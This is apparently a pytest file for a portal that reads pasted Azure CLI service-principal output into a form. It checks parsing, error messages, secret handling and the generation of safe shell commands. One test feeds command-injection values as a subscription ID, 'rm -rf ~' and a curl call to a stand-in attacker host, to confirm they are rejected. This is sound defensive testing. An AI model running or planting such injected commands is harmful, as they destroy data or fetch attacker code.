"""The one-command setup: the commands offered, and what they print read back into the form."""

import io
import json

import pytest

from fake_azure import scenarios as azure
from portal import fast_path

from .conftest import VALID_ACCOUNT, add_account, csrf_token, submit

# What the CLI prints around the JSON in Cloud Shell's terminal.
WARNING = (
    "WARNING: Creating 'Contributor' role assignment under scope '/subscriptions/…'\n"
    "WARNING: The output includes credentials that you must protect.\n"
)


def command_output(secret=azure.SECRET, name="ColdSend", **changes):
    """What our command prints in Cloud Shell: the CLI's warnings, then its JSON."""
    printed = {
        "appId": azure.APP_CONTRIBUTOR,
        "displayName": name,
        "password": secret,
        "tenant": azure.TENANT,
        "subscription": azure.SUB_READY,
        "secretExpiresOn": "2028-11-30",  # `date -u -d '+2 years' +%F` on 30 November 2026
        **changes,
    }
    return WARNING + json.dumps({k: v for k, v in printed.items() if v is not None}, indent=2)


def test_the_output_gives_every_value_even_with_the_clis_warnings_around_it():
    assert fast_path.read(command_output() + "\nuser@Azure:~$ ") == {
        "client_id": azure.APP_CONTRIBUTOR,
        "name": "ColdSend",
        "client_secret": azure.SECRET,  # a secret with "~" comes through as it is
        "tenant_id": azure.TENANT,
        "subscription_id": azure.SUB_READY,
        "secret_expires_on": "2028-11-30",
    }


def test_the_sdk_auth_format_of_older_guides_is_read_too():
    sdk_auth = {
        "clientId": azure.APP_CONTRIBUTOR,
        "clientSecret": azure.SECRET,
        "subscriptionId": azure.SUB_READY,
        "tenantId": azure.TENANT,
        "activeDirectoryEndpointUrl": "https://login.microsoftonline.com",
    }
    assert fast_path.read(json.dumps(sdk_auth))["client_secret"] == azure.SECRET


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (command_output(secret=None), "has no password"),
        (command_output(tenant=None, appId=None), "has no tenant and no appId"),
        (command_output(password=123), "has no password"),
        ("the secret is Good8Q~ValidSecretValue", "This is not what the command printed"),
        ('["a", "list"]', "This is not what the command printed"),
        ("{not json}", "This is not what the command printed"),
        ('{"a":' + "[" * 1000 + "]" * 1000 + "}", "This is not what the command printed"),
        (command_output(secret="\ud800"), "has no password"),
        (command_output(tenant="c0ffee00\u0000"), "has no tenant"),
    ],
    ids=[
        "no password",
        "no tenant or app",
        "a number",
        "words",
        "a list",
        "broken",
        "nested deep",
        "a lone surrogate",
        "a control character",
    ],
)
def test_partial_or_foreign_output_is_named_for_what_it_lacks(text, message):
    with pytest.raises(fast_path.OutputError, match=message):
        fast_path.read(text)


def test_the_commands_use_a_typed_subscription_id_and_nothing_else_typed():
    typed = fast_path.commands(azure.SUB_READY.upper())
    assert typed.splitlines()[0] == f"SUBSCRIPTION_ID={azure.SUB_READY}"
    nil = "00000000-0000-0000-0000-000000000000"
    for anything_else in ("", "5b0; rm -rf ~", "$(curl evil.example)", nil):
        first = fast_path.commands(anything_else).splitlines()[0]
        assert first == "SUBSCRIPTION_ID=$(az account show --query id -o tsv)"
    assert "--role Contributor" in typed and '--scopes "/subscriptions/$SUBSCRIPTION_ID"' in typed
    # A name of its own per subscription: for an existing app's name, create-for-rbac deletes
    # that app's passwords, which would break another account's stored secret.
    assert '--name "ColdSend-${SUBSCRIPTION_ID:0:8}"' in typed


def test_verify_with_only_the_pasted_output_saves_every_value(customer):
    response = submit(customer, "/accounts/new", {"command_output": command_output()})

    assert response.status_code == 303
    page = customer.get(response.headers["Location"]).text
    assert "ColdSend" in page and azure.TENANT in page and azure.SUB_READY in page
    assert "Expires on 30 November 2028" in page  # known without typing it


def test_typed_values_win_over_the_pasted_ones(customer):
    response = submit(
        customer,
        "/accounts/new",
        {"name": "Typed", "command_output": command_output(), "subscription_id": azure.SUB_WARNED},
    )

    page = customer.get(response.headers["Location"]).text
    assert '<h1 id="account-name">Typed</h1>' in page and azure.SUB_WARNED in page


def test_unreadable_output_is_explained_and_cleared_never_sent_back(customer):
    output = command_output(secret="Zz9Q~SomethingSecret.0123456789abcdefghij", appId=None)
    response = submit(customer, "/accounts/new", {"command_output": output})

    assert response.status_code == 422
    assert "has no appId" in response.text
    assert "We cleared the field: paste it again." in response.text
    assert "Zz9Q~SomethingSecret" not in response.text


def test_a_paste_fills_the_empty_fields_in_place_and_never_the_secret(customer):
    response = customer.post(
        "/accounts/command-output",
        data={
            "command_output": command_output(),
            "name": "Mine",
            "csrf_token": csrf_token(customer, "/accounts/new"),
        },
    )

    page = response.text
    assert (
        "Filled Tenant ID, Client ID, Client Secret, Subscription ID, Secret expiry date from what"
        in page
    )
    assert 'id="tenant_id-field" hx-swap-oob="true"' in page
    assert f'value="{azure.TENANT}"' in page and f'value="{azure.SUB_READY}"' in page
    assert 'id="name-field"' not in page  # typed, so kept
    assert "Taken from what you pasted" in page
    assert azure.SECRET not in page


def test_a_paste_of_something_else_says_what_is_wrong(customer):
    response = customer.post(
        "/accounts/command-output",
        data={"command_output": "hello", "csrf_token": csrf_token(customer, "/accounts/new")},
    )

    assert "This is not what the command printed" in response.text
    assert "hx-swap-oob" not in response.text


def test_a_second_paste_replaces_the_first_ones_values_but_not_a_typed_name(customer):
    first = command_output(name="First")
    second = command_output(appId=azure.APP_READER, subscription=azure.SUB_WARNED)
    values = fast_path.read(first)
    response = customer.post(
        "/accounts/command-output",
        data={
            **values,
            "name": "Mine",
            "tenant_id": "a typo",
            "command_output": second,
            "csrf_token": csrf_token(customer, "/accounts/new"),
        },
    )

    page = response.text
    assert f'value="{azure.APP_READER}"' in page and f'value="{azure.SUB_WARNED}"' in page
    assert f'value="{azure.TENANT}"' in page  # the typo replaced
    assert 'id="name-field"' not in page


def test_a_paste_on_the_edit_page_replaces_the_ids_and_keeps_the_secret_optional(customer):
    account_id = add_account(customer)
    response = customer.post(
        f"/accounts/{account_id}/command-output",
        data={
            "command_output": command_output(),
            "csrf_token": csrf_token(customer, f"/accounts/{account_id}/edit"),
        },
    )

    assert f'value="{azure.APP_CONTRIBUTOR}"' in response.text
    assert "Leave empty to keep the stored secret" in response.text
    assert "required" not in response.text.split('id="client_secret-field"')[1].split("</div>")[0]


@pytest.mark.reliability("a file sent under a form field's name", "treated as absent, no 500")
def test_a_file_in_place_of_a_field_is_as_good_as_absent(customer):
    token = csrf_token(customer, "/accounts/new")
    for field in ("name", "client_secret", "command_output"):
        response = customer.post(
            "/accounts/new",
            data={**VALID_ACCOUNT, field: (io.BytesIO(b"x"), "x.txt"), "csrf_token": token},
            content_type="multipart/form-data",
        )
        assert response.status_code in (303, 422), (field, response.status_code)
